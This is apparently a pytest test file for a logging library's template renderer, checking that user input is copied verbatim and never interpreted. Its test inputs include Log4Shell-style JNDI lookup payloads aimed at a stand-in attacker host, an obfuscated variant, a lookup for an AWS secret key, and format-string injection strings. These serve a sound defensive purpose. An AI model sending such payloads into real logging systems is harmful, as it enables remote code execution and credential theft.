from __future__ import annotations

import pytest

from lib_log_dispatch.domain.template import render_template
from tests.os_markers import OS_AGNOSTIC

pytestmark = [OS_AGNOSTIC]


@pytest.mark.parametrize(
    "value",
    [
        "${jndi:ldap://attacker.example/a}",
        "${env:AWS_SECRET_ACCESS_KEY}",
        "${${lower:j}ndi:rmi://x/y}",
        "{}",
        "%s %d",
        "[bold red]markup[/]",
        "{0.__class__}",
    ],
)
def test_argument_values_are_copied_verbatim(value: str) -> None:
    assert render_template("User input: {}", [value]) == f"User input: {value}"


def test_substituted_placeholders_are_not_filled_by_later_arguments() -> None:
    assert render_template("{} / {}", ["{}", "second"]) == "{} / second"


def test_lookup_syntax_in_the_template_is_literal() -> None:
    assert render_template("${jndi:ldap://x/a} {}", ["ok"]) == "${jndi:ldap://x/a} ok"


def test_missing_arguments_leave_placeholders() -> None:
    assert render_template("{} and {}", ["one"]) == "one and {}"


def test_surplus_arguments_are_ignored() -> None:
    assert render_template("only {}", ["one", "two"]) == "only one"


def test_escaped_placeholder_is_literal() -> None:
    assert render_template(r"\{} is a placeholder, {} is not", ["this"]) == "{} is a placeholder, this is not"


def test_non_string_arguments_use_str() -> None:
    assert render_template("{} {} {}", [1, None, 2.5]) == "1 None 2.5"


def test_template_without_placeholders_is_returned_unchanged() -> None:
    template = "plain text"
    assert render_template(template, ["ignored"]) is template
